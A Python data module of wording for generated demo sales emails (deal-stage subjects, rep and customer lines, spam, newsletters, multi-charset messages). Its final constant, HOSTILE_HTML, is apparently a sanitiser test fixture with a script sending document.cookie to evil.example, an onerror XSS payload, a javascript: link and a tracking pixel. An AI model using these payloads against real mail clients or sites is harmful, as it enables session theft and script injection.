"""What the demo mail says: subjects and sentences by deal stage, internal and junk mail.

Plain data with `{placeholders}` that `demo_mail` fills from the cast (first names, deal and
company names, amounts). Kept apart from the scenario so the wording can grow without touching
the logic; nothing here is random or does I/O.
"""

from __future__ import annotations

# Thread subjects by deal stage; a deal's threads draw from its stage's list in order.
SUBJECTS: dict[str, tuple[str, ...]] = {
    "Qualification": (
        "Intro: {company} and Brightwave",
        "Quick question about your monitoring setup",
        "Follow-up from the trade fair",
    ),
    "Needs Analysis": (
        "Requirements for {deal}",
        "Notes from our discovery workshop",
        "Integration questions",
    ),
    "Proposal": (
        "Proposal: {deal}",
        "Pricing options for {company}",
        "Reference customers",
    ),
    "Negotiation": (
        "Contract redlines for {deal}",
        "Final pricing",
        "Signature timeline",
    ),
    "Closed Won": (
        "Kickoff planning",
        "Onboarding schedule",
        "Renewal and next phase",
    ),
    "Closed Lost": (
        "Decision on {deal}",
        "Staying in touch",
    ),
}

# Opening lines, from the rep and from the customer.
REP_OPENERS = (
    "Thanks for your time on the call today.",
    "Following up on our conversation last week.",
    "I hope the week is going well at {company}.",
    "As promised, here is a short summary.",
)
CUSTOMER_OPENERS = (
    "Thanks for getting back to me so quickly.",
    "I discussed this with the team this morning.",
    "Sorry for the slow reply, it has been a busy week.",
    "Quick update from our side.",
)
REP_MIDDLES = (
    "For {deal} we would start with a pilot of about twenty units and scale from there.",
    "The figure we discussed was {amount}, including installation and the first year of support.",
    "I can set up a short demo with our solutions engineer on {weekday} if that suits you.",
    "Our standard terms allow a ninety-day exit during the pilot phase.",
    "I have attached the updated numbers; the main change is the support tier.",
    "Several customers in your sector went live within six weeks.",
)
CUSTOMER_MIDDLES = (
    "Our main concern is how this fits with the systems we already run.",
    "Could you send the security documentation to our IT team?",
    "The budget for this quarter is tight, so timing matters for us.",
    "We would like to understand the support hours before we go further.",
    "Our board meets on {weekday}; I will bring the proposal to them.",
    "Can we move the call to later in the afternoon?",
)
REP_CLOSERS = (
    "Let me know what works for you.",
    "Happy to answer any questions in the meantime.",
    "Looking forward to hearing from you.",
)
CUSTOMER_CLOSERS = (
    "Speak soon.",
    "Thanks again.",
    "Let me know if you need anything else from us.",
)

# Mail between reps (nobody outside the org takes part).
INTERNAL_SUBJECTS = (
    "Pipeline review on {weekday}",
    "Handover while I am away",
    "Pricing approval needed for {deal}",
    "Team lunch",
    "Quarter targets",
    "Notes from the sales kickoff",
)
INTERNAL_LINES = (
    "Can we go through the open deals before the forecast call?",
    "I will be out next week; {other} has the context on my accounts.",
    "The discount on {deal} needs a manager's approval before Friday.",
    "Updated numbers are in the shared sheet.",
    "Great work on the last quarter, everyone.",
)

SPAM = (
    ("Claim your prize now", "You have been selected for an exclusive reward. Act today."),
    ("Invoice overdue - action required", "Open the attached link to settle your account."),
    ("Cheap SEO services", "We can get your site to the first page within a week."),
    ("Re: your parcel", "Your delivery is on hold. Confirm your address to release it."),
)

NEWSLETTER_TOPICS = (
    "Fuel prices and fleet costs",
    "Five trends in cold-chain logistics",
    "Interview: running a paperless warehouse",
    "Regulation update for the quarter",
    "Telematics buyer's guide",
    "Year in review",
)

WEEKDAYS = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday")

# Messages in unusual charsets, by contact key: (charset, subject, body). The typographic
# dashes and quotes are the point: they only exist in some of these charsets.
CHARSET_MAIL: dict[str, tuple[str, str, str]] = {
    "chloe": (
        "iso-8859-1",
        "Réunion de suivi – hôtels",  # noqa: RUF001
        "Bonjour,\n\nMerci pour la présentation. Nous aimerions organiser une réunion "
        "la semaine prochaine pour discuter du déploiement dans nos hôtels.\n\n"
        "Bien cordialement,\nChloé",
    ),
    "kenji": (
        "shift_jis",
        "センサーの見積もりについて",
        "お世話になっております。\n\n研究所向けセンサーの見積もりをありがとうございました。"
        "来週、チームで検討いたします。\n\nよろしくお願いいたします。\n森 健二",
    ),
    "zoe": (
        "windows-1252",
        "Shipment “tracking” costs",
        "Hi,\n\nWe’ve reviewed the quote. The €9,000 figure is higher than we expected – "  # noqa: RUF001
        "could you send a breakdown?\n\nThanks,\nZoë",
    ),
    "yuki": (
        "utf-8",
        "ERP連携の件 – next steps",  # noqa: RUF001
        "Hello,\n\nThank you for the workshop. 来週の打ち合わせを楽しみにしています。\n\n"
        "Best regards,\nYuki",
    ),
}

HOSTILE_HTML = (
    "<html><head><script>document.location='https://evil.example/steal?c='+document.cookie"
    "</script></head><body>"
    "<p>Hi Carla, photos from the site visit are below.</p>"
    '<img src="x" onerror="alert(\'pwned\')">'
    '<p><img src="https://images.stark-renewables.example/site/roof-array.jpg" '
    'alt="Roof array" width="480"></p>'
    '<p><a href="javascript:alert(1)">Open the full gallery</a></p>'
    '<img src="https://track.mailer.example/open.gif?u=8f3a2c" width="1" height="1" alt="">'
    "</body></html>"
)
